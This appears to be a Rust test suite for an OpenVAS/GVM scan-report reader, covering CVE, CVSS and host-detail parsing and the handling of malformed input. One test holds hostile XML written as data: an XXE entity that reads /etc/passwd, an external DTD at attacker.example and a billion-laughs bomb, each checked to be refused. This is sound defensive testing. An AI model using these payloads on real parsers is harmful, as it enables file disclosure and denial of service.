//! The OpenVAS/GVM reader against real reports from the corpus and against
//! hostile or broken documents.
//!
//! Expected counts come from the files themselves, by plain string
//! searches that share nothing with the reader.

mod common;
use common::corpus;

use std::io::Cursor;
use std::net::IpAddr;

use garrison_scan::error::ErrorKind;
use garrison_scan::{Counted, Limits, ScanError, ScanItem, ScannedHost, Severity, openvas};

fn items(xml: &str) -> Vec<Result<ScanItem, ScanError>> {
    openvas::read(
        Counted::new(Cursor::new(xml.as_bytes().to_vec())),
        Limits::default(),
    )
    .collect()
}

/// Hosts and rejections (with their lines and reasons) of a document that
/// must read to its end without an error.
fn read_all(xml: &str) -> (Vec<ScannedHost>, Vec<(u64, String)>) {
    let mut hosts = Vec::new();
    let mut rejected = Vec::new();
    for item in items(xml) {
        match item.expect("no fatal error") {
            ScanItem::Host(host) => hosts.push(*host),
            ScanItem::Rejected(r) => rejected.push((r.line, r.reason)),
            ScanItem::Definition(d) => panic!("OpenVAS has no definitions: {d:?}"),
        }
    }
    (hosts, rejected)
}

/// The text of each `<result ...>...</result>` that names an NVT.
fn result_blocks(xml: &str) -> Vec<&str> {
    xml.split("<result ")
        .skip(1)
        .map(|rest| rest.split("</result>").next().unwrap_or(rest))
        .filter(|block| block.contains("<nvt"))
        .collect()
}

/// The text between `open` and the next `<`.
fn text_after<'a>(block: &'a str, open: &str) -> Option<&'a str> {
    let start = block.find(open)? + open.len();
    block[start..].split('<').next().map(str::trim)
}

/// The anonymised sample names its host `192.168.1.1001`, which is not an
/// IPv4 address; some tests stand a valid one in its place.
const SAMPLE_HOST: &str = "192.168.1.1001";
const VALID_HOST: &str = "192.168.1.101";

#[test]
fn many_vuln_as_published_is_read_with_its_host_by_name() {
    // The sample's host is not an address; it is kept as the host name, so
    // every result still arrives.
    let xml = corpus("scans/openvas/many_vuln.xml");
    let blocks = result_blocks(&xml);
    let false_positives = blocks
        .iter()
        .filter(|b| text_after(b, "<threat>") == Some("False Positive"))
        .count();
    let host_sections = xml.matches("<ip>").count();
    let (hosts, rejected) = read_all(&xml);
    assert!(rejected.is_empty(), "{rejected:?}");
    assert_eq!(hosts.len(), blocks.len() - false_positives + host_sections);
    assert!(hosts.iter().all(|h| h.ips.is_empty()));
    assert!(
        hosts
            .iter()
            .all(|h| h.hostname.as_deref() == Some(SAMPLE_HOST))
    );
}

#[test]
fn many_vuln_yields_one_host_per_result_and_one_per_host_section() {
    let xml = corpus("scans/openvas/many_vuln.xml").replace(SAMPLE_HOST, VALID_HOST);
    let blocks = result_blocks(&xml);
    let false_positives = blocks
        .iter()
        .filter(|b| text_after(b, "<threat>") == Some("False Positive"))
        .count();
    let host_sections = xml.matches("<ip>").count();

    let (hosts, rejected) = read_all(&xml);
    assert!(rejected.is_empty(), "{rejected:?}");
    let (with_findings, sections): (Vec<_>, Vec<_>) =
        hosts.iter().partition(|h| !h.findings.is_empty());
    assert_eq!(with_findings.len(), blocks.len() - false_positives);
    assert_eq!(sections.len(), host_sections);
    assert!(with_findings.iter().all(|h| h.findings.len() == 1));
    let ip: IpAddr = VALID_HOST.parse().expect("ip");
    assert!(hosts.iter().all(|h| h.ips == [ip]));

    // Severities follow the threat; the two results with an empty threat
    // (severity 4.0) fall back to the score.
    for (threat, severity) in [("High", Severity::High), ("Medium", Severity::Medium)] {
        let expected = blocks
            .iter()
            .filter(|b| text_after(b, "<threat>") == Some(threat))
            .count();
        let empty_threat_scores: Vec<f32> = blocks
            .iter()
            .filter(|b| text_after(b, "<threat>") == Some(""))
            .filter_map(|b| {
                text_after(&b[b.find("</threat>")?..], "<severity>")?
                    .parse()
                    .ok()
            })
            .filter(|s| Severity::from_cvss(*s) == severity)
            .collect();
        let got = with_findings
            .iter()
            .filter(|h| h.findings[0].severity == severity)
            .count();
        assert_eq!(got, expected + empty_threat_scores.len(), "{threat}");
    }

    // Every CVE the refs name, and no other.
    let mut expected_cves: Vec<String> = xml
        .split("<ref id=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .filter(|id| id.starts_with("CVE-"))
        .map(str::to_owned)
        .collect();
    expected_cves.sort();
    expected_cves.dedup();
    let mut cves: Vec<String> = with_findings
        .iter()
        .flat_map(|h| h.findings[0].cves.clone())
        .collect();
    cves.sort();
    cves.dedup();
    assert_eq!(cves, expected_cves);

    // The first result, as read in the file.
    let rexec = &with_findings[0];
    assert_eq!(rexec.hostname.as_deref(), Some("b6b9f466d63"));
    let f = &rexec.findings[0];
    assert_eq!(f.plugin_id, "1.3.6.1.4.1.25623.1.0.100111");
    assert_eq!(f.title, "The rexec service is running");
    assert_eq!((f.port, f.protocol.as_deref()), (Some(512), Some("tcp")));
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.cves, ["CVE-1999-0618"]);
    let cvss = f.cvss2.as_ref().expect("cvss_base is v2");
    assert_eq!((cvss.score, cvss.vector.as_deref()), (10.0, None));
    assert!(f.cvss3.is_none());
    assert_eq!(
        f.evidence.as_deref(),
        Some("The rexec service was detected on the target system.")
    );
    let description = f.description.as_deref().expect("description");
    assert!(
        description.starts_with("This remote host is running a rexec service.\n\nrexec (remote")
    );
    assert!(
        f.solution
            .as_deref()
            .expect("solution")
            .starts_with("Disable the rexec service")
    );
    assert_eq!(f.line, rexec.line);

    // A title broken over two lines in the file is one line.
    let drb = with_findings
        .iter()
        .map(|h| &h.findings[0])
        .find(|f| f.plugin_id == "1.3.6.1.4.1.25623.1.0.108010")
        .expect("dRuby result");
    assert_eq!(
        drb.title,
        "Distributed Ruby (dRuby/DRb) Multiple Remote Code Execution Vulnerabilities"
    );
    assert_eq!(
        (drb.port, drb.protocol.as_deref()),
        (Some(8787), Some("tcp"))
    );

    // `general/tcp` has a protocol but no port.
    let eol = with_findings
        .iter()
        .map(|h| &h.findings[0])
        .find(|f| f.plugin_id == "1.3.6.1.4.1.25623.1.0.103674")
        .expect("EOL result");
    assert_eq!((eol.port, eol.protocol.as_deref()), (None, Some("tcp")));
    assert_eq!(
        eol.title,
        "Operating System (OS) End of Life (EOL) Detection"
    );

    let twiki = with_findings
        .iter()
        .map(|h| &h.findings[0])
        .find(|f| f.cves.contains(&"CVE-2008-5304".to_owned()))
        .expect("TWiki result");
    assert_eq!(twiki.cves, ["CVE-2008-5304", "CVE-2008-5305"]);

    // The empty threat of the Diffie-Hellman result falls back to 4.0.
    let dh = with_findings
        .iter()
        .map(|h| &h.findings[0])
        .find(|f| f.plugin_id == "1.3.6.1.4.1.25623.1.0.106223")
        .expect("DH result");
    assert_eq!(dh.severity, Severity::Medium);
    assert_eq!((dh.port, dh.protocol.as_deref()), (Some(5432), Some("tcp")));

    let section = sections[0];
    assert_eq!(
        section.scanned_at.map(|t| t.to_rfc3339()).as_deref(),
        Some("2023-09-26T10:50:34.000Z")
    );
}

#[test]
fn a_report_without_results_yields_nothing() {
    let xml = corpus("scans/openvas/no_vuln.xml");
    assert_eq!(result_blocks(&xml).len(), 0);
    let (hosts, rejected) = read_all(&xml);
    assert_eq!(hosts.len(), xml.matches("<ip>").count());
    assert!(rejected.is_empty());
}

/// A GVM 22 style report: CVSS v3 vectors, `<solution>`, CVE text of
/// older versions, EPSS blocks naming CVEs that are not the NVT's, and a
/// host section with details.
const GVM22: &str = r#"<?xml version="1.0"?>
<get_reports_response status="200" status_text="OK">
<report id="r1" format_id="a994b278-1f62-11e1-96ac-406186ea4fc5">
<report id="r1">
<ports><port>42/tcp<host>10.99.99.99</host><severity>9.8</severity></port></ports>
<results max="-1" start="1">
<result id="a">
  <name>Windows Multiple Vulnerabilities</name>
  <host>10.99.99.99<asset asset_id="x"/><hostname>Server99.Corp.Example</hostname></host>
  <port>42/tcp</port>
  <nvt oid="1.3.6.1.4.1.25623.1.0.836484">
    <name>Microsoft Windows Multiple Vulnerabilities (KB5062557)</name>
    <severities score="9.8">
      <severity type="cvss_base_v3"><score>9.8</score><value>CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H</value></severity>
    </severities>
    <tags>cvss_base_vector=CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H|summary=Missing update|insight=|solution=tag solution|solution_type=VendorFix</tags>
    <solution type="VendorFix">Install the update.</solution>
    <epss><max_severity><cve id="CVE-2025-47981"><severity>9.8</severity></cve></max_severity></epss>
    <refs><ref type="cve" id="CVE-2025-49659"/><ref type="url" id="https://example.com/CVE-2025-1111"/><ref type="cve" id="cve-2025-48823"/></refs>
  </nvt>
  <threat>High</threat>
  <severity>9.8</severity>
  <description>File version: 10.0.17763.7434</description>
</result>
<result id="b">
  <name>OS Detection Consolidation</name>
  <host>2001:db8::5<hostname></hostname></host>
  <port>general/CPE-T</port>
  <nvt oid="1.3.6.1.4.1.25623.1.0.105937">
    <name>OS Detection Consolidation and Reporting</name>
    <cvss_base>0.0</cvss_base>
    <cve>CVE-2014-0160, CVE-2014-0161</cve>
    <tags>cvss_base_vector=AV:N/AC:L/Au:N/C:N/I:N/A:N|summary=Reports the OS.|solution=none needed</tags>
  </nvt>
  <threat>Log</threat>
  <severity>0.0</severity>
</result>
<result id="c">
  <name>Ruled out</name>
  <host>10.99.99.99</host>
  <port>80/tcp</port>
  <nvt oid="1.3.6.1.4.1.25623.1.0.1"><name>Ruled out</name></nvt>
  <threat>False Positive</threat>
  <severity>-1.0</severity>
</result>
<result id="d">
  <name>Medium thing</name>
  <host>10.99.99.98</host>
  <port>161/udp</port>
  <nvt oid="1.3.6.1.4.1.25623.1.0.2"><name>SNMP default community</name><cvss_base>5.0</cvss_base>
    <tags>cvss_base_vector=AV:N/AC:L/Au:N/C:P/I:N/A:N|summary=SNMP answers to public.</tags></nvt>
  <threat>Medium</threat>
  <severity>5.0</severity>
</result>
</results>
<host>
  <ip>10.99.99.99</ip>
  <start>2025-08-22T15:01:38+02:00</start>
  <detail><name>hostname</name><value>server99.corp.example</value><source><name>1.3.6.1.4.1.25623.1.0.103997</name></source></detail>
  <detail><name>best_os_txt</name><value>Microsoft Windows Server 2019</value></detail>
  <detail><name>best_os_cpe</name><value>cpe:/o:microsoft:windows_server_2019</value></detail>
  <detail><name>MAC</name><value>00-1A-2B-3C-4D-5E</value></detail>
  <detail><name>App</name><value>cpe:/a:openbsd:openssh:8.1</value></detail>
  <detail><name>App</name><value>cpe:/a:openbsd:openssh:8.1</value></detail>
</host>
</report>
</report>
</get_reports_response>
"#;

#[test]
fn a_gvm22_report_reads_vectors_cves_and_host_details() {
    let (hosts, rejected) = read_all(GVM22);
    assert!(rejected.is_empty(), "{rejected:?}");
    assert_eq!(
        hosts.len(),
        4,
        "three results (one false positive skipped) and a host section"
    );

    let win = &hosts[0];
    assert_eq!(win.ips, ["10.99.99.99".parse::<IpAddr>().expect("ip")]);
    assert_eq!(win.hostname.as_deref(), Some("server99"));
    assert_eq!(win.fqdn.as_deref(), Some("server99.corp.example"));
    assert_eq!(win.line, 7);
    let f = &win.findings[0];
    assert_eq!(
        f.title,
        "Microsoft Windows Multiple Vulnerabilities (KB5062557)"
    );
    assert_eq!(f.cves, ["CVE-2025-49659", "CVE-2025-48823"]);
    let v3 = f.cvss3.as_ref().expect("v3");
    assert_eq!(v3.score, 9.8);
    assert_eq!(
        v3.vector.as_deref(),
        Some("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H")
    );
    assert!(f.cvss2.is_none());
    assert_eq!(f.solution.as_deref(), Some("Install the update."));
    assert_eq!(f.description.as_deref(), Some("Missing update"));
    assert_eq!(f.evidence.as_deref(), Some("File version: 10.0.17763.7434"));

    let log = &hosts[1];
    assert_eq!(log.ips, ["2001:db8::5".parse::<IpAddr>().expect("ip")]);
    assert_eq!(log.hostname, None);
    let f = &log.findings[0];
    assert_eq!(f.severity, Severity::Info);
    assert_eq!((f.port, f.protocol.as_deref()), (None, None));
    assert_eq!(f.cves, ["CVE-2014-0160", "CVE-2014-0161"]);
    assert!(
        f.cvss2.is_none() && f.cvss3.is_none(),
        "a 0.0 score is no score"
    );
    assert_eq!(f.solution.as_deref(), Some("none needed"));

    let snmp = &hosts[2].findings[0];
    assert_eq!(snmp.severity, Severity::Medium);
    assert_eq!(
        (snmp.port, snmp.protocol.as_deref()),
        (Some(161), Some("udp"))
    );
    let v2 = snmp.cvss2.as_ref().expect("v2");
    assert_eq!(
        (v2.score, v2.vector.as_deref()),
        (5.0, Some("AV:N/AC:L/Au:N/C:P/I:N/A:N"))
    );

    let section = &hosts[3];
    assert!(section.findings.is_empty());
    assert_eq!(section.os.as_deref(), Some("Microsoft Windows Server 2019"));
    assert_eq!(section.hostname.as_deref(), Some("server99"));
    assert_eq!(section.macs, ["00:1a:2b:3c:4d:5e"]);
    let software: Vec<_> = section
        .software
        .iter()
        .map(|s| (s.name.as_str(), s.version.as_deref(), s.cpe.as_deref()))
        .collect();
    assert_eq!(
        software,
        [
            (
                "windows_server_2019",
                None,
                Some("cpe:2.3:o:microsoft:windows_server_2019:*:*:*:*:*:*:*:*")
            ),
            (
                "openssh",
                Some("8.1"),
                Some("cpe:2.3:a:openbsd:openssh:8.1:*:*:*:*:*:*:*")
            ),
        ]
    );
    assert_eq!(
        section.scanned_at.map(|t| t.to_rfc3339()).as_deref(),
        Some("2025-08-22T13:01:38.000Z")
    );
}

fn first_error(xml: &str) -> ScanError {
    let items = items(xml);
    let errors: Vec<_> = items.iter().filter_map(|i| i.as_ref().err()).collect();
    assert_eq!(errors.len(), 1, "one fatal error, then the end: {items:?}");
    assert!(
        items.last().is_some_and(Result::is_err),
        "the error ends the items"
    );
    errors[0].clone()
}

#[test]
fn dtds_and_entity_bombs_are_refused() {
    let xxe = "<?xml version=\"1.0\"?>\n<!DOCTYPE report [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<report><results><result><name>&x;</name></result></results></report>";
    assert_eq!(first_error(xxe).kind, ErrorKind::Refused);
    // An external DTD is named, never fetched: the document reads on, and
    // an entity it might define stays undefined and is refused.
    let external = "<?xml version=\"1.0\"?>\n<!DOCTYPE report SYSTEM \"http://attacker.example/x.dtd\">\n<report><results>&ext;</results></report>";
    assert_eq!(first_error(external).kind, ErrorKind::Refused);
    let laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n]>\n<report>&lol3;</report>";
    assert_eq!(first_error(laughs).kind, ErrorKind::Refused);
    // Without a DTD an entity is undefined, and refused too.
    assert_eq!(
        first_error("<report><results>&lol;</results></report>").kind,
        ErrorKind::Refused
    );
}

#[test]
fn a_wrong_root_is_refused() {
    let err = first_error("<?xml version=\"1.0\"?>\n<nmaprun scanner=\"nmap\"><host/></nmaprun>");
    assert_eq!(err.kind, ErrorKind::Malformed);
    assert!(err.message.contains("<nmaprun>"), "{}", err.message);
    let err =
        first_error("<get_reports_response status=\"404\" status_text=\"Failed to find report\"/>");
    assert_eq!(err.kind, ErrorKind::Malformed);
    assert!(
        err.message.contains("Failed to find report"),
        "{}",
        err.message
    );
}

#[test]
fn a_truncated_report_yields_the_records_before_the_cut() {
    let xml = corpus("scans/openvas/many_vuln.xml").replace(SAMPLE_HOST, VALID_HOST);
    let third = xml
        .match_indices("<result ")
        .nth(2)
        .expect("three results")
        .0;
    // Cut inside the third result's description text, and inside a tag.
    let in_text = third + xml[third..].find("<description>").expect("description") + 20;
    let in_tag = third + xml[third..].find("<threat>").expect("threat") + 4;
    for cut in [in_text, in_tag] {
        let items = items(&xml[..cut]);
        assert_eq!(items.len(), 3, "{items:?}");
        assert!(
            items[..2]
                .iter()
                .all(|i| matches!(i, Ok(ScanItem::Host(h)) if h.findings.len() == 1))
        );
        let err = items[2].as_ref().expect_err("the cut");
        assert_eq!(err.kind, ErrorKind::Truncated, "{err}");
    }
}

#[test]
fn malformed_records_are_rejected_by_line_and_reading_goes_on() {
    let xml = "<report><report><results>
<result id=\"1\"><host>10.0.0.1</host><port>eighty/tcp</port><nvt oid=\"1.2.3\"><name>A</name></nvt><threat>High</threat></result>
<result id=\"2\"><host>bad host!</host><port>80/tcp</port><nvt oid=\"1.2.4\"><name>B</name></nvt><threat>High</threat></result>
<result id=\"3\"><host>10.0.0.3</host><port>80/tcp</port><nvt><name>C</name></nvt><threat>High</threat></result>
<result id=\"4\"><host>10.0.0.4</host><port>443/tcp</port><nvt oid=\"1.2.5\"><name>D</name></nvt><threat>Low</threat><severity>2.6</severity></result>
</results>
<host><ip>not an ip</ip></host>
</report></report>";
    let (hosts, rejected) = read_all(xml);
    let lines: Vec<u64> = rejected.iter().map(|(line, _)| *line).collect();
    assert_eq!(lines, [2, 3, 4, 7]);
    assert!(rejected[0].1.contains("eighty/tcp"), "{}", rejected[0].1);
    assert!(rejected[1].1.contains("bad host!"), "{}", rejected[1].1);
    assert!(rejected[2].1.contains("NVT"), "{}", rejected[2].1);
    assert!(rejected[3].1.contains("not an ip"), "{}", rejected[3].1);
    assert_eq!(hosts.len(), 1);
    assert_eq!(hosts[0].line, 5);
    assert_eq!(hosts[0].findings[0].plugin_id, "1.2.5");
    assert_eq!(hosts[0].findings[0].severity, Severity::Low);
}
